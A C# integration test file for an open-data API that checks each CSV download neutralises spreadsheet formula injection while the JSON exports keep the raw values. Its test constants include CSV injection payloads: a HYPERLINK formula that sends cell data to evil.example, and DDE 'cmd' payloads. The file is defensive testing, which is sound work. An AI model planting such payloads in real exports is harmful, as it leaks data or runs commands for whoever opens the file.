using System.Text.Json.Nodes;
using GreenCommunity.Api.Tests.Infrastructure;
using GreenCommunity.Infrastructure.Persistence;
using Microsoft.EntityFrameworkCore;
using Microsoft.Extensions.DependencyInjection;

namespace GreenCommunity.Api.Tests.Features.OpenData;

/// <summary>
/// CSV injection (OWASP "CSV Injection"): a text cell that a spreadsheet would run as a formula (it begins with
/// <c>=</c>, <c>+</c>, <c>-</c>, <c>@</c>, tab or carriage return) is written with a leading <c>'</c> in every CSV
/// download, still quoted as RFC 4180 requires; numeric columns are written as they are, and NDJSON and Parquet carry
/// the raw value. The data is put in through the mutations (a revocation reason, indicator sources) and, for the
/// values the mutations trim (leading tab, carriage return) and the fields no mutation writes, through the database.
/// </summary>
[Collection(SerialTestGroup.Name)]
public sealed class CsvFormulaDownloadTests : IDisposable
{
    private const string Reason = "=HYPERLINK(\"https://evil.example/?leak=\"&A1,\"Click for details\")";
    private const string AtSource = "@SUM(1+1)*cmd|' /C calc'!A0";
    private const string PlusSource = "+1+1";
    private const string MinusSource = "-2+3+cmd|' /C calc'!A0";
    private const string TabEvidence = "\t=1+1";
    private const string ReturnEvidence = "\r=1+1";
    private const string FormulaName = "=1+1 Community";
    private static readonly string Admin = TestTokens.CityAdmin();
    private readonly WorkflowApiFactory _api = new();
    private readonly HttpClient _client;

    public CsvFormulaDownloadTests()
    {
        _client = _api.CreateClient();
        _api.Clock.SetUtcNow(new DateTimeOffset(2004, 3, 1, 2, 0, 0, TimeSpan.Zero));
    }

    public void Dispose()
    {
        _client.Dispose();
        _api.Dispose();
    }

    [Fact]
    public async Task EveryCsvDownloadNeutralisesFormulasAndTheJsonDownloadsCarryTheRawValues()
    {
        // A revocation reason and indicator sources through the mutations, as an administrator would enter them.
        var award = (await Query("{ awards(first: 1, where: { year: { eq: 2002 }, level: { eq: CITY }, revoked: false }) { nodes { id } } }"))["awards"]!["nodes"]![0]!;
        var revoked = await Mutate("revokeAward", "award { id } errors { ... on Error { code message } }", new { award = award["id"]!.GetValue<string>(), reason = Reason });
        Assert.Empty(revoked["errors"]!.AsArray());
        var recorded = await Mutate("recordObservations", "batch { added corrected } errors { ... on Error { code message field } }", new
        {
            observations = new object[]
            {
                new { indicator = "environmental-volunteers", community = "TH-HUAYING", year = 2001, value = 31.0, provenance = "SELF_REPORTED", sourceDocument = AtSource },
                new { indicator = "environmental-volunteers", community = "TH-HUAYING", year = 2002, value = 32.0, provenance = "SELF_REPORTED", sourceDocument = PlusSource },
                new { indicator = "environmental-volunteers", community = "TH-HUAYING", year = 2003, value = 33.0, provenance = "SELF_REPORTED", sourceDocument = MinusSource },
            },
        });
        Assert.Empty(recorded["errors"]!.AsArray());

        // The mutations trim a leading tab or line break, so those go in through the database.
        await using (var scope = _api.Services.CreateAsyncScope())
        {
            var db = scope.ServiceProvider.GetRequiredService<GreenCommunityDbContext>();
            var applications = await db.Awards.Where(a => a.ApplicationId != null).OrderBy(a => a.Id).Select(a => a.ApplicationId!.Value).Take(2).ToListAsync();
            Assert.True(await db.GateVerdicts.Where(v => v.ApplicationId == applications[0]).ExecuteUpdateAsync(s => s.SetProperty(v => v.Evidence, TabEvidence)) > 0);
            Assert.True(await db.GateVerdicts.Where(v => v.ApplicationId == applications[1]).ExecuteUpdateAsync(s => s.SetProperty(v => v.Evidence, ReturnEvidence)) > 0);
            Assert.Equal(1, await db.Database.ExecuteSqlInterpolatedAsync($"UPDATE communities SET name_en = {FormulaName} WHERE code = {"TH-HUAYING"}"));
        }

        var awards = await DownloadAsync("awards");
        Assert.Contains(awards.Csv, r => r["revocation_reason"] == "'" + Reason);
        Assert.Contains(awards.Json, r => r["revocation_reason"]?.GetValue<string>() == Reason);
        Assert.Contains("\"'" + Reason.Replace("\"", "\"\"", StringComparison.Ordinal) + "\"", awards.Text, StringComparison.Ordinal);

        var observations = await DownloadAsync("observations");
        foreach (var source in new[] { AtSource, PlusSource, MinusSource })
        {
            Assert.Contains(observations.Csv, r => r["source_document"] == "'" + source);
            Assert.Contains(observations.Json, r => r["source_document"]?.GetValue<string>() == source);
        }

        Assert.DoesNotContain(observations.Csv, r => r["source_document"] is [('=' or '+' or '-' or '@' or '\t' or '\r'), ..]);
        Assert.Contains(observations.Csv, r => r["community_code"] == "TH-HUAYING" && r["year"] == "2003" && r["value"] == "33");

        var verdicts = await DownloadAsync("gate-verdicts");
        Assert.Contains(verdicts.Csv, r => r["evidence"] == "'" + TabEvidence);
        Assert.Contains(verdicts.Json, r => r["evidence"]?.GetValue<string>() == TabEvidence);
        Assert.Contains(verdicts.Csv, r => r["evidence"] == "'" + ReturnEvidence);
        Assert.Contains(verdicts.Json, r => r["evidence"]?.GetValue<string>() == ReturnEvidence);

        var communities = await DownloadAsync("communities");
        Assert.Equal("'" + FormulaName, communities.Csv.Single(r => r["code"] == "TH-HUAYING")["name_en"]);
        Assert.Equal(FormulaName, communities.Json.Single(r => r["code"]!.GetValue<string>() == "TH-HUAYING")["name_en"]!.GetValue<string>());

        // The data dictionary says so.
        var formats = JsonNode.Parse(await _client.GetStringAsync("/downloads/dictionary.json"))!["formats"]!.AsArray();
        Assert.Equal(["csv", "ndjson", "parquet"], formats.Select(f => f!["extension"]!.GetValue<string>()));
        Assert.Contains("leading '", formats[0]!["description"]!.GetValue<string>(), StringComparison.Ordinal);

        // No text cell of any CSV download starts a formula.
        foreach (var download in new[] { awards, observations, verdicts, communities })
        {
            Assert.All(download.Csv, row => Assert.All(row.Values, cell => Assert.False(cell is [('=' or '+' or '@' or '\t' or '\r'), ..], cell)));
        }
    }

    private async Task<(string Text, List<Dictionary<string, string>> Csv, List<JsonObject> Json)> DownloadAsync(string dataset)
    {
        var text = (await _client.GetStringAsync($"/downloads/{dataset}.csv")).TrimStart('\uFEFF');
        var lines = CsvText.Parse(text);
        var csv = lines.Skip(1).Select(cells => lines[0].Zip(cells).ToDictionary(p => p.First, p => p.Second)).ToList();
        var json = (await _client.GetStringAsync($"/downloads/{dataset}.ndjson")).Split('\n', StringSplitOptions.RemoveEmptyEntries).Select(l => JsonNode.Parse(l)!.AsObject()).ToList();
        Assert.Equal(csv.Count, json.Count);
        return (text, csv, json);
    }

    private async Task<JsonNode> Mutate(string name, string selection, object input)
    {
        var inputType = char.ToUpperInvariant(name[0]) + name[1..] + "Input";
        return (await _client.PostGraphQLAsync($"mutation($input: {inputType}!) {{ {name}(input: $input) {{ {selection} }} }}", new { input }, token: Admin)).AssertData()[name]!;
    }

    private async Task<JsonNode> Query(string query) => (await _client.PostGraphQLAsync(query)).AssertData();
}
